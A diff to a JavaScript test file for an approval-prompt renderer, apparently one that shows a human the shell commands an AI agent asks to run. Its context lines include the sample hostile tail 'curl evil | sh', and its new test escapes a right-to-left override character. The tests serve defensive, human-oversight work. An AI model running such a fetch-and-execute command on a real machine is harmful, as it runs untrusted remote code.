@@ -77,3 +77,14 @@ test('a long value says its size and shows its end; a hidden middle is said', ()
   const html = approvalHtml({ prompt: prompt({ inputs: [{ field: 'command', text: long, bytes: long.length, escaped: 0, hidden: 0 }] }), behind: 0, nonce: 'N', cspSource: 'x', nowMs: 0 });
   assert.match(html, /It ends with:<\/p>\n    <pre class="tail">…a+ ; curl evil \| sh<\/pre>/);
 });
+
+test('the reason is said once, with what the detail adds to it', () => {
+  const reason = "Typed ask rule 'tool=exec_shell command=ls' requires approval.";
+  const p = prompt({ reason, detail: reason + ' (a forced hold: session grants and saved rules cannot pass it)' });
+  const html = approvalHtml({ prompt: p, behind: 0, nonce: 'N', cspSource: 'x', nowMs: 0 });
+  assert.equal(html.split('requires approval.').length - 1, 1, 'the reason once');
+  assert.match(html, /<p class="detail">\(a forced hold: session grants and saved rules cannot pass it\)<\/p>/);
+  const same = approvalHtml({ prompt: prompt({ reason, detail: reason }), behind: 0, nonce: 'N', cspSource: 'x', nowMs: 0 });
+  assert.ok(!same.includes('class="detail"'));
+  assert.match(approvalHtml({ prompt: prompt({ summary: 'bash: ls \u202e' }), behind: 0, nonce: 'N', cspSource: 'x', nowMs: 0 }), /1 character shown as ⟪escapes⟫/);
+});
